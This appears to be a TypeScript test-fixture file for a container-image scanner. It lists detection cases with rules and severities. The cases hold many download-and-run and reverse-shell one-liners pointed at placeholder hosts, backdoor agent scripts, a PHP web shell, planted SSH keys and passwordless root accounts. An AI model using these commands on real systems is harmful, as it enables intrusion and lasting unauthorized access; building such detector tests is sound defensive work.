import { gzipSync } from 'node:zlib';
import { base64, type ImageCase, image, layer, program, SSH_KEY, starts } from './image-case.ts';

/** Documentation addresses (RFC 5737) and example domains: nobody answers there. */
const IP = '203.0.113.77';
const URL = `http://${IP}/x`;
const HOST_URL = 'https://files.backend.example/s';
const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };

function fetches(name: string, spec: ImageCase['spec'], severity: ImageCase['severity'] = 'high'): ImageCase {
  return { name: `fetch: ${name}`, spec, rule: 'start/download-and-run', severity };
}

const FETCHES: readonly ImageCase[] = [
  ...[
    `curl -s ${HOST_URL} | bash`,
    `curl -fsSL ${HOST_URL} | sudo -E bash -`,
    `wget -qO- ${HOST_URL} | sh -s -- --now`,
    `wget -O - ${HOST_URL} | /bin/bash`,
    `bash <(curl -s ${HOST_URL})`,
    `bash < <(curl -s ${HOST_URL})`,
    `. <(wget -qO- ${HOST_URL})`,
    `source /dev/stdin <<< "$(curl -s ${HOST_URL})"`,
    `sh -c "$(curl -fsSL ${HOST_URL})"`,
    `bash -c "\`wget -qO- ${HOST_URL}\`"`,
    `eval "$(curl -s ${HOST_URL})"`,
    `$(curl -s ${HOST_URL})`,
    `curl -s ${HOST_URL} | tee /tmp/l | bash`,
    `curl -s ${HOST_URL} | base64 -d | bash`,
    `curl -s ${HOST_URL} | gunzip -c | sh`,
    `curl -s ${HOST_URL} | python3 -`,
    `curl -s ${HOST_URL} | perl`,
    `python3 -c "import urllib.request as u; exec(u.urlopen('${HOST_URL}').read())"`,
    `python3 -c "exec(__import__('requests').get('${HOST_URL}').text)"`,
    `perl -MLWP::Simple -e 'eval get("${HOST_URL}")'`,
    `ruby -ropen-uri -e 'eval URI.open("${HOST_URL}").read'`,
    `php -r 'eval(file_get_contents("${HOST_URL}"));'`,
    `node -e 'require("https").get("${HOST_URL}",r=>{let b="";r.on("data",d=>b+=d);r.on("end",()=>eval(b))})'`,
    `curl -o /tmp/x ${HOST_URL} && chmod +x /tmp/x && /tmp/x`,
    `curl -so /tmp/x ${HOST_URL}; chmod 755 /tmp/x; cd /tmp; ./x &`,
    `cd /tmp\nwget -q ${HOST_URL}/agent\nchmod 777 agent\nnohup ./agent >/dev/null 2>&1 &`,
    `curl ${HOST_URL} > /dev/shm/.a\nsh /dev/shm/.a`,
    `T=curl; U=${HOST_URL}\n$T -s $U | bash`,
    `U=${HOST_URL}\nfetch() { curl -s "$1"; }\nfetch "$U" | sh`,
    `get() { wget -q -O /tmp/a "$U"; }\nrun() { chmod +x /tmp/a; /tmp/a; }\nU=${HOST_URL}\nget && run`,
    `D=/tmp/w\nmkdir -p $D && cd $D && wget -qO k ${HOST_URL} && chmod u+x k && exec ./k`,
    `/bin/busybox wget -qO- ${HOST_URL} | /bin/busybox sh`,
    `(curl -s ${HOST_URL} || wget -qO- ${HOST_URL}) | bash`,
    `curl -s ${HOST_URL} -o /tmp/a.tgz && tar xzf /tmp/a.tgz -C /tmp && /tmp/a/run`,
    `curl -s ${HOST_URL}.tgz | tar xz -C /opt/w\n/opt/w/run &`,
    `git clone https://git.example/a/b.git /tmp/b && cd /tmp/b && make && ./b`,
    `git clone https://git.example/a/b.git . && go build -o /tmp/b ./... && /tmp/b`,
    `cat > /tmp/.s <<'EOS'\ncurl -s ${HOST_URL} | bash\nEOS\nbash /tmp/.s`,
    `echo "curl -s ${HOST_URL} | bash" > /tmp/s; chmod +x /tmp/s; /tmp/s`,
    `while true; do curl -s ${HOST_URL} | sh; sleep 600; done &`,
    `B=$(curl -s ${HOST_URL}); echo "$B" | bash`,
    `B="$(wget -qO- ${HOST_URL})"\neval "$B"`,
    `curl -s ${HOST_URL} | xargs -0 sh -c`,
    `aria2c -o x -d /tmp ${HOST_URL} && sh /tmp/x`,
    `c"u"rl -s ${HOST_URL} | b'a'sh`,
    `cu\\\nrl -s ${HOST_URL} | \\\n  bash`,
    `/usr/bin/c?rl -s ${HOST_URL} | bash`,
    `scp -q files.backend.example:/x /tmp/x; bash /tmp/x`,
    `nc files.backend.example 8080 > /tmp/x; sh /tmp/x`,
    `apt-get install -y curl >/dev/null; curl -s ${HOST_URL} | bash`,
    `cp /usr/bin/curl /tmp/c; /tmp/c -s ${HOST_URL} | bash`,
    `if true; then\n  for u in ${HOST_URL} https://two.example/s; do\n    curl -s "$u" -o /tmp/y && bash /tmp/y && break\n  done\nfi`,
  ].map((text) => fetches(text, starts(text))),
  fetches('a picture', starts(`curl -s ${URL}.jpg -o /tmp/a.jpg; bash /tmp/a.jpg`), 'critical'),
  fetches('CMD', image({}, { Cmd: ['sh', '-c', `curl -s ${HOST_URL} | sh; exec nginx`] })),
  fetches(
    'ENTRYPOINT array',
    image({}, { Entrypoint: ['/bin/bash', '-c', `bash <(wget -qO- ${URL})`] }),
    'critical',
  ),
  fetches(
    'HEALTHCHECK',
    image({}, { ...NGINX, Healthcheck: { Test: ['CMD-SHELL', `curl -s ${URL} | sh; exit 0`] } }),
    'critical',
  ),
  fetches('ONBUILD', image({}, { ...NGINX, OnBuild: [`RUN curl -s ${URL} | sh`] }), 'medium'),
  fetches(
    'an entrypoint behind links',
    image(
      {
        'opt/v1/start': `#!/bin/sh\nwget -qO- ${URL} | sh\n`,
        'opt/cur': { type: 'symlink', target: 'v1' },
        'docker-entrypoint.sh': { type: 'symlink', target: 'opt/cur/start' },
      },
      { Entrypoint: ['/docker-entrypoint.sh'] },
    ),
    'critical',
  ),
  fetches(
    'saved in one script, run in another',
    starts('. /opt/lib.sh\nget\nsh /tmp/.u', {
      'opt/lib.sh': `get() {\n  curl -s ${HOST_URL} -o /tmp/.u\n}\n`,
    }),
  ),
  fetches(
    'a sourced file that fetches',
    starts('. /opt/common\nexec nginx', { 'opt/common': `wget -qO- ${HOST_URL} | bash\n` }),
  ),
  fetches('cron', image({ 'etc/cron.d/x': `* * * * * root curl -s ${URL} | sh\n` }, NGINX), 'critical'),
  fetches('profile.d', image({ 'etc/profile.d/x.sh': `curl -s ${URL} | sh\n` }, NGINX), 'critical'),
  fetches(
    'initdb folder',
    image({ 'docker-entrypoint-initdb.d/x.sh': `#!/bin/sh\ncurl -s ${URL} | sh\n` }, NGINX),
    'critical',
  ),
  fetches(
    'a Python program',
    starts(
      '#!/usr/bin/env python3\nimport urllib.request\n\ndef load(u):\n    return urllib.request.urlopen(u).read()\n\ncode = load("https://files.backend.example/s")\nexec(compile(code, "x", "exec"))',
    ),
    'medium',
  ),
  fetches(
    'a Python program that saves',
    starts(
      `#!/usr/bin/env python3\nimport os, urllib.request, stat\nurllib.request.urlretrieve("${HOST_URL}", "/tmp/a")\nos.chmod("/tmp/a", stat.S_IRWXU)\nos.system("/tmp/a &")`,
    ),
    'medium',
  ),
  fetches(
    'a Python program that pipes',
    starts(
      `#!/usr/bin/env python3\nimport subprocess\nsubprocess.run("curl -s ${HOST_URL} | sh", shell=True)`,
    ),
  ),
  {
    name: 'decode: base64 in a script',
    spec: starts(`echo ${base64('touch /tmp/a; sleep 1000 # and more')} | base64 -d | sh`),
    rule: 'start/decode-and-run',
    severity: 'high',
  },
  {
    name: 'decode: gzip in base64',
    spec: starts(
      `base64 -d <<< '${base64(gzipSync('touch /tmp/a; sleep 1000 # and more'))}' | gzip -dc | bash`,
    ),
    rule: 'start/decode-and-run',
    severity: 'high',
  },
  {
    name: 'decode: hidden download',
    spec: starts(`eval "$(echo ${base64(`curl -s ${HOST_URL} | bash`)} | base64 -d)"`),
    rule: 'start/download-and-run',
    severity: 'critical',
  },
  {
    name: 'decode: the coded file beside it',
    spec: starts('base64 -d /opt/data.bin | bash', {
      'opt/data.bin': `${base64(`curl -s ${HOST_URL} | bash`)}\n`,
    }),
    rule: 'start/download-and-run',
    severity: 'high',
  },
  {
    name: 'decode: Python',
    spec: starts(
      `#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode("${base64('import os; os.system("id")')}"))`,
    ),
    rule: 'start/decode-and-run',
    severity: 'medium',
  },
  {
    name: 'decode: Python, layered',
    spec: starts(
      `#!/usr/bin/env python3\n_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${base64(gzipSync('import os; os.system("id") # and more of it')).split('').reverse().join('')}'))`,
    ),
    rule: 'start/decode-and-run',
    severity: 'medium',
  },
];

const SHELLS: readonly ImageCase[] = [
  ...[
    `bash -i >& /dev/tcp/${IP}/443 0>&1`,
    `0<&196;exec 196<>/dev/tcp/${IP}/443; sh <&196 >&196 2>&196`,
    `exec 5<>/dev/tcp/${IP}/443\ncat <&5 | while read line; do $line 2>&5 >&5; done`,
    `exec 5<>/dev/tcp/${IP}/443; while read -r l 0<&5; do eval "$l" 2>&5 >&5; done`,
    `sh -i 5<> /dev/tcp/${IP}/443 0<&5 1>&5 2>&5`,
    `H=${IP}; P=443; bash -i > /dev/tcp/$H/$P 2>&1 <&1`,
    `setsid bash -c 'bash -i &>/dev/tcp/${IP}/443 <&1' &`,
    `rm -f /tmp/p; mknod /tmp/p p; /bin/sh 0</tmp/p | nc ${IP} 443 1>/tmp/p`,
    `mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${IP}:443 > /tmp/s`,
    `TF=$(mktemp -u); mkfifo $TF && telnet ${IP} 443 0<$TF | sh 1>$TF`,
    `nc -e /bin/sh ${IP} 443`,
    `nc ${IP} 443 -e /bin/bash`,
    `ncat --ssl ${IP} 443 -c bash`,
    `busybox nc ${IP} 443 -e sh`,
    `nc -lvnp 4444 -e /bin/bash`,
    `ncat -lk 4444 --sh-exec "bash -i"`,
    `socat TCP:${IP}:443 EXEC:/bin/bash,pty,stderr,setsid`,
    `socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:${IP}:443`,
    `socat OPENSSL:${IP}:443,verify=0 EXEC:/bin/sh`,
    `socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/sh`,
    `awk 'BEGIN {s = "/inet/tcp/0/${IP}/443"; while(42) { do{ printf "$ " |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null`,
    `lua -e "local s=require('socket').tcp();s:connect('${IP}',443);while true do local c=s:receive();local f=io.popen(c);s:send(f:read('*a'));end"`,
    `php -r '$s=fsockopen("${IP}",443);exec("/bin/sh -i <&3 >&3 2>&3");'`,
    `php -r '$s=fsockopen("${IP}",443);$p=proc_open("sh",array(0=>$s,1=>$s,2=>$s),$pipes);'`,
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton("${IP}")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'`,
    `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"${IP}:443");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    `ruby -rsocket -e 'c=TCPSocket.new("${IP}",443);while(l=c.gets);IO.popen(l,"r"){|io|c.print io.read}end'`,
    `ruby -rsocket -e 'f=TCPSocket.open("${IP}",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`,
    `node -e 'var n=require("net"),c=require("child_process").spawn("sh",[]);var s=new n.Socket();s.connect(443,"${IP}",()=>{s.pipe(c.stdin);c.stdout.pipe(s);});'`,
    `python3 -c 'import socket,pty,os;s=socket.create_connection(("${IP}",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("bash")'`,
    `python3 -c 'a=__import__;s=a("socket").socket();s.connect(("${IP}",443));[a("os").dup2(s.fileno(),i) for i in range(3)];a("subprocess").call(["sh","-i"])'`,
    `echo ${base64(`bash -i >& /dev/tcp/${IP}/443 0>&1`)} | base64 -d | bash`,
    `echo ${base64(`bash -i >& /dev/tcp/${IP}/443 0>&1`).split('').reverse().join('')} | rev | base64 -d | bash`,
    `zsh -c 'zmodload zsh/net/tcp && ztcp ${IP} 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
    `script -qc /bin/bash /dev/null < /dev/tcp/${IP}/443 > /dev/tcp/${IP}/443`,
    `exec 3<>/dev/tcp/files.backend.example/80; printf 'GET /s HTTP/1.0\\r\\n\\r\\n' >&3; bash <&3`,
    `openssl s_client -quiet -connect files.backend.example:443 | sh`,
    `ssh -fN -o StrictHostKeyChecking=no -R 2222:localhost:22 t@${IP}`,
  ].map(
    (text): ImageCase => ({
      name: `shell: ${text}`,
      spec: starts(`(${text}) &\nexec nginx`),
      rule: 'reverse-shell/remote-shell',
      severity: 'high',
    }),
  ),
  ...(
    [
      [
        'agent.py',
        `#!/usr/bin/env python3\nimport os\nimport socket\nimport subprocess\n\nHOST = "${IP}"\n\ndef main():\n    s = socket.socket()\n    s.connect((HOST, 443))\n    while True:\n        cmd = s.recv(1024).decode()\n        if not cmd:\n            break\n        out = subprocess.run(cmd, shell=True, capture_output=True)\n        s.send(out.stdout)\n\nmain()\n`,
      ],
      [
        'agent2.py',
        `#!/usr/bin/env python3\nfrom socket import *\nfrom subprocess import check_output as co\ns = socket(AF_INET, SOCK_STREAM)\ns.connect(("${IP}", 443))\nwhile 1:\n    s.sendall(co(s.recv(4096).decode(), shell=True))\n`,
      ],
      [
        'agent3.py',
        `#!/usr/bin/env python3\nimport socket, threading, subprocess as sp\np = sp.Popen(['sh'], stdin=sp.PIPE, stdout=sp.PIPE)\ns = socket.socket(); s.connect(('${IP}', 443))\nthreading.Thread(target=lambda: [p.stdin.write(s.recv(1024)) or p.stdin.flush() for _ in iter(int, 1)]).start()\nwhile 1: s.send(p.stdout.read(1))\n`,
      ],
      [
        'bind.py',
        `#!/usr/bin/env python3\nimport socket, os\ns = socket.socket()\ns.bind(("0.0.0.0", 9001))\ns.listen(1)\nc, _ = s.accept()\nfor fd in range(3):\n    os.dup2(c.fileno(), fd)\nos.execl("/bin/sh", "sh")\n`,
      ],
      [
        'agent.js',
        `#!/usr/bin/env node\nconst net = require('node:net');\nconst { spawn } = require('node:child_process');\nconst client = net.connect({ host: '${IP}', port: 443 }, () => {\n  const sh = spawn('/bin/sh', ['-i']);\n  client.pipe(sh.stdin);\n  sh.stdout.pipe(client);\n});\n`,
      ],
      [
        'agent2.js',
        `#!/usr/bin/env node\nconst s = require('net').connect(443, '${IP}');\ns.on('data', (d) => require('child_process').exec(d.toString(), (e, o) => s.write(o)));\n`,
      ],
      [
        'agent.pl',
        `#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "${IP}:443", Proto => "tcp");\nwhile (<$s>) {\n  my $out = \`$_\`;\n  print $s $out;\n}\n`,
      ],
      [
        'agent.rb',
        `#!/usr/bin/env ruby\nrequire 'socket'\ns = TCPSocket.new('${IP}', 443)\nwhile cmd = s.gets\n  s.puts(\`#{cmd}\`)\nend\n`,
      ],
      [
        'agent.php',
        `#!/usr/bin/env php\n<?php\n$s = stream_socket_client("tcp://${IP}:443");\nwhile ($c = fgets($s)) {\n  fwrite($s, shell_exec($c));\n}\n`,
      ],
      [
        'agent.lua',
        `#!/usr/bin/env lua\nlocal socket = require("socket")\nlocal c = socket.connect("${IP}", 443)\nwhile true do\n  local l = c:receive()\n  local f = io.popen(l, "r")\n  c:send(f:read("*a"))\nend\n`,
      ],
    ] as const
  ).map(
    ([file, text]): ImageCase => ({
      name: `shell: ${file}`,
      spec: image({ [`opt/${file}`]: text }, { Cmd: [`/opt/${file}`] }),
      rule: 'reverse-shell/remote-shell',
      severity: 'high',
    }),
  ),
  {
    name: 'shell: cron',
    spec: image({ 'etc/cron.d/x': `* * * * * root bash -c 'bash -i >& /dev/tcp/${IP}/443 0>&1'\n` }, NGINX),
    rule: 'reverse-shell/remote-shell',
    severity: 'critical',
  },
  {
    name: 'shell: a web shell beside the site',
    spec: image(
      { 'var/www/html/img.php': `<?php $s=fsockopen("${IP}",443);$p=proc_open("/bin/sh -i",[$s,$s,$s],$x);` },
      NGINX,
    ),
    rule: 'reverse-shell/remote-shell',
    severity: 'high',
  },
  {
    name: 'shell: deleted',
    spec: image(
      [
        layer({ 'opt/x.sh': `#!/bin/bash\nbash -i >& /dev/tcp/${IP}/443 0>&1\n` }),
        layer({ 'opt/.wh.x.sh': '' }),
      ],
      NGINX,
    ),
    rule: 'reverse-shell/remote-shell',
    severity: 'medium',
  },
  {
    name: 'shell: systemd',
    spec: image(
      { 'etc/systemd/system/x.service': `[Service]\nExecStart=/usr/bin/socat TCP:${IP}:443 EXEC:/bin/sh\n` },
      NGINX,
    ),
    rule: 'reverse-shell/remote-shell',
    severity: 'critical',
  },
  {
    name: 'shell: HEALTHCHECK',
    spec: image(
      {},
      { ...NGINX, Healthcheck: { Test: ['CMD', 'bash', '-c', `bash -i >& /dev/tcp/${IP}/443 0>&1`] } },
    ),
    rule: 'reverse-shell/remote-shell',
    severity: 'critical',
  },
];

const SSHD = { 'usr/sbin/sshd': program() };
const PASSWD = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n';

const ACCESS: readonly ImageCase[] = [
  ...[
    'root/.ssh/authorized_keys',
    'root/.ssh/authorized_keys2',
    'home/git/.ssh/authorized_keys',
    'var/www/.ssh/authorized_keys',
    'var/lib/postgresql/.ssh/authorized_keys',
    'opt/app/.ssh/authorized_keys',
    'etc/dropbear/authorized_keys',
    'usr/share/empty/.ssh/authorized_keys',
  ].map(
    (path): ImageCase => ({
      name: `key: ${path}`,
      spec: image({ ...SSHD, [path]: `${SSH_KEY}\n` }, NGINX),
      rule: 'access/authorized-keys',
    }),
  ),
  {
    name: 'key: AuthorizedKeysFile',
    spec: image(
      {
        ...SSHD,
        'etc/ssh/sshd_config': 'Port 22\nAuthorizedKeysFile /etc/.k/%u\n',
        'etc/.k/root': `${SSH_KEY}\n`,
      },
      NGINX,
    ),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: AuthorizedKeysFile in a drop-in',
    spec: image(
      {
        ...SSHD,
        'etc/ssh/sshd_config': 'Include /etc/ssh/sshd_config.d/*.conf\n',
        'etc/ssh/sshd_config.d/a.conf': 'AuthorizedKeysFile .ssh/authorized_keys /usr/lib/keys\n',
        'usr/lib/keys': `command="/bin/sh",no-pty ${SSH_KEY}\n`,
      },
      NGINX,
    ),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: a script adds it',
    spec: starts(`mkdir -p ~/.ssh; echo '${SSH_KEY}' >> ~/.ssh/authorized_keys; exec nginx`),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: from ENV',
    spec: starts(
      'mkdir -p /root/.ssh; echo "$K" > /root/.ssh/authorized_keys; exec nginx',
      {},
      { Env: [`K=${SSH_KEY}`] },
    ),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: from base64',
    spec: starts(`echo ${base64(SSH_KEY)} | base64 -d >> /root/.ssh/authorized_keys; exec nginx`),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: behind a link',
    spec: image(
      {
        ...SSHD,
        'opt/k': `${SSH_KEY}\n`,
        'root/.ssh/authorized_keys': { type: 'symlink', target: '/opt/k' },
      },
      NGINX,
    ),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: the folder is a link',
    spec: image(
      {
        ...SSHD,
        'opt/s/authorized_keys': `${SSH_KEY}\n`,
        'root/.ssh': { type: 'symlink', target: '../opt/s' },
      },
      NGINX,
    ),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: copied by a script',
    spec: starts('install -m 600 /opt/id.txt /root/.ssh/authorized_keys; exec /usr/sbin/sshd -D', {
      ...SSHD,
      'opt/id.txt': `${SSH_KEY}\n`,
    }),
    rule: 'access/authorized-keys',
  },
  {
    name: 'key: deleted',
    spec: image(
      [layer({ ...SSHD, 'root/.ssh/authorized_keys': `${SSH_KEY}\n` }), layer({ 'root/.wh..ssh': '' })],
      NGINX,
    ),
    rule: 'access/authorized-keys',
    severity: 'low',
  },
  {
    name: 'account: empty password in passwd',
    spec: image({ 'etc/passwd': `${PASSWD}bob::1000:1000::/home/bob:/bin/sh\n` }, NGINX),
    rule: 'access/no-password',
  },
  {
    name: 'account: empty password in shadow',
    spec: image({ 'etc/passwd': PASSWD, 'etc/shadow': 'root::19000:0:99999:7:::\n' }, NGINX),
    rule: 'access/no-password',
  },
  {
    name: 'account: no shell field means sh',
    spec: image({ 'etc/passwd': `${PASSWD}bob::1000:1000::/home/bob:\n` }, NGINX),
    rule: 'access/no-password',
  },
  {
    name: 'account: a second root',
    spec: image({ 'etc/passwd': `${PASSWD}sync2:$6$a$b:0:0::/:/bin/bash\n` }, NGINX),
    rule: 'access/second-root',
  },
  {
    name: 'account: a second root with uid 00',
    spec: image({ 'etc/passwd': `${PASSWD}toor:$6$a$b:00:0::/:/bin/sh\n` }, NGINX),
    rule: 'access/second-root',
  },
  {
    name: 'account: a system account with a shell and no password',
    spec: image(
      {
        'etc/passwd': `${PASSWD}games:x:5:60:games:/usr/games:/bin/bash\n`,
        'etc/shadow': 'root:*:1:0:99999:7:::\ngames::1:0:99999:7:::\n',
      },
      NGINX,
    ),
    rule: 'access/no-password',
  },
  {
    name: 'account: made at start',
    spec: starts("echo 'x::0:0::/root:/bin/sh' >> /etc/passwd; exec nginx"),
    rule: 'access/second-root',
  },
  {
    name: 'account: made by useradd at start',
    spec: starts('useradd -o -u 0 -g 0 -s /bin/bash -p "" maint; exec nginx'),
    rule: 'access/second-root',
  },
  {
    name: 'account: password removed at start',
    spec: starts('passwd -d root; exec /usr/sbin/sshd -D', SSHD),
    rule: 'access/no-password',
  },
  {
    name: 'sshd: empty passwords',
    spec: image(
      { ...SSHD, 'etc/ssh/sshd_config': 'permitemptypasswords YES\nPasswordAuthentication yes\n' },
      { Cmd: ['/usr/sbin/sshd', '-D'] },
    ),
    rule: 'access/sshd-config',
  },
  {
    name: 'sshd: options on the command line',
    spec: image(SSHD, {
      Cmd: ['/usr/sbin/sshd', '-D', '-o', 'PermitEmptyPasswords=yes', '-oPermitRootLogin=yes'],
    }),
    rule: 'access/sshd-config',
  },
  {
    name: 'removed: a hidden program',
    spec: image([layer({ 'tmp/.x/k': program() }), layer({ 'tmp/.wh..x': '' })], NGINX),
    rule: 'hidden/removed-program',
  },
  {
    name: 'removed: by an opaque folder',
    spec: image([layer({ 'opt/.x/k': program() }), layer({ 'opt/.x/.wh..wh..opq': '' })], NGINX),
    rule: 'hidden/removed-program',
  },
  {
    name: 'removed: a folder replaced by a file',
    spec: image([layer({ 'opt/.x/k': program() }), layer({ 'opt/.x': 'text' })], NGINX),
    rule: 'hidden/removed-program',
  },
];

const COPIES = { createdBy: 'COPY app /app # buildkit', comment: 'buildkit.dockerfile.v0' };
const AS_INSTRUCTED = { rule: 'layer-content/not-as-instructed', severity: 'low' } as const;

const UNDER_ANOTHER_NAME: readonly ImageCase[] = [
  {
    name: 'a layer of COPY that also exchanges sshd',
    spec: image([layer({ 'app/app.js': 'x', 'usr/sbin/sshd': program() }, COPIES)], NGINX),
    ...AS_INSTRUCTED,
  },
  {
    name: 'a layer of COPY that takes a file away elsewhere',
    spec: image([layer({ 'app/app.js': 'x', 'etc/.wh.passwd': '' }, COPIES)], NGINX),
    ...AS_INSTRUCTED,
  },
  {
    name: 'a program in the layer of a LABEL',
    spec: image(
      [layer({ 'usr/bin/nginx-helper': program() }, { ...COPIES, createdBy: 'LABEL version=1' })],
      NGINX,
    ),
    ...AS_INSTRUCTED,
  },
  {
    name: 'a layer that sorts behind its destination by name',
    spec: image([layer({ 'app/x': 'x', 'application/run': program() }, COPIES)], NGINX),
    ...AS_INSTRUCTED,
  },
];

/** Downloads, shells and ways in, hidden in ways that their detectors were not written for. All inert. */
export const INTRUDERS: readonly ImageCase[] = [...FETCHES, ...SHELLS, ...ACCESS, ...UNDER_ANOTHER_NAME];
